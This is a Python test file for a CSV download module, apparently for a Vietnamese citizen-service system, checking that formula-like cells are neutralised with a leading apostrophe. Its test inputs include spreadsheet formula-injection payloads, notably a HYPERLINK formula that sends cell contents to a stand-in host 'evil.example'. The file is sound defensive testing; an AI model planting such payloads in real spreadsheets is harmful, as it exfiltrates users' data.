"""The CSV download: no cell from the feed may become a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from worker.web.ops_csv import csv_bytes, csv_response, safe_cell


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the byte-order mark for Vietnamese
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=***", "+84 912 345 678",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
])
def test_formula_starts_are_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert _cells(csv_bytes([["x", value]])) == [["x", "'" + value]]


@pytest.mark.parametrize("value", [
    "Nguyễn Thị Hồng", "000.00.17.H19-201126-0001", "09****678", "", "a=b", "Số 12, ấp Tân Lộc",
    " =1", "—",
])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert safe_cell(value) == value
    assert _cells(csv_bytes([[value]])) == [[value]]


def test_none_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_masked_name_keeps_no_formula() -> None:
    # masking keeps the first character: "=HYPERLINK(...)" masked is still "=***"
    from worker.domain.privacy import mask_name

    masked = mask_name('=HYPERLINK("http://evil.example","x")')
    assert _cells(csv_bytes([[masked]]))[0][0].startswith("'")


def test_response_quotes_cells_and_is_never_cached() -> None:
    r = csv_response([["Công dân"], ["=1+1"]], unmasked=False)
    assert r.headers["cache-control"] == "no-store"
    assert _cells(r.body) == [["Công dân"], ["'=1+1"]]
